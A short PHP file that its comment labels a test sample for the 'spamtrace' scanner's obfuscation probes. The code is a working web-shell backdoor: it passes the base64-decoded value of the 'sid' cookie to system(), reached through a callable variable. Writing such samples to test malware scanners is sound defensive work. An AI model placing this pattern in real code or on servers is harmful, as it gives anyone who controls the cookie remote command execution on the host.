<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$run = system(...);
if (isset($_COOKIE['sid'])) {
    $run(base64_decode($_COOKIE['sid']));
}
